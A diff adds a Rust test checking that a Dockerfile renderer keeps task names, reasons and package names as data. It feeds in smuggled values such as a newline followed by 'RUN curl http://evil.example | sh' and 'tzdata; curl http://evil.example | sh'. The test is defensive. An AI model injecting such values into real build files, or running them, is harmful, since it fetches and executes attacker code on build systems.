@@ -856,3 +856,34 @@ fn the_self_check_rejects_what_does_not_parse() {
     let err = render::check_dockerfile("FROM debian:12-slim\n\"oops\nUSER 1\nCMD [\"x\"]\n").unwrap_err();
     assert!(err.contains("does not parse"), "{err}");
 }
+
+/// Task names, reasons and package names are data: a line break or shell
+/// syntax in them never becomes an instruction or a command of its own.
+#[test]
+fn hostile_text_stays_data() {
+    let evil = "x\nRUN curl http://evil.example | sh\n";
+    let mut image = debian_nginx();
+    image.base.reason = evil.into();
+    for step in &mut image.steps {
+        step.title = format!("{}{evil}", step.title);
+    }
+    if let StepAction::InstallPackages { packages, .. } = &mut image.steps[0].action {
+        packages.push(pkg("tzdata; curl http://evil.example | sh", None));
+    }
+    image.start_files[0].reason = evil.into();
+    image.report.dropped[0].why = evil.into();
+    let artifacts =
+        render::render(&Conversion { images: vec![image], ..Default::default() }, &repo_file, &options()).unwrap();
+    for a in &artifacts {
+        let Some(text) = a.as_text() else { continue };
+        for line in text.lines() {
+            assert!(!line.trim_start().starts_with("RUN curl"), "{}: {line}", a.path);
+        }
+    }
+    let dockerfile = artifacts.iter().find(|a| a.path == "web/Dockerfile").unwrap().as_text().unwrap();
+    assert!(dockerfile.contains("'tzdata; curl http://evil.example | sh'"), "{dockerfile}");
+    assert!(
+        dockerfile.contains("# roles/nginx/tasks/main.yml:3 Install nginx {{ nginx_version }}x RUN curl"),
+        "{dockerfile}"
+    );
+}
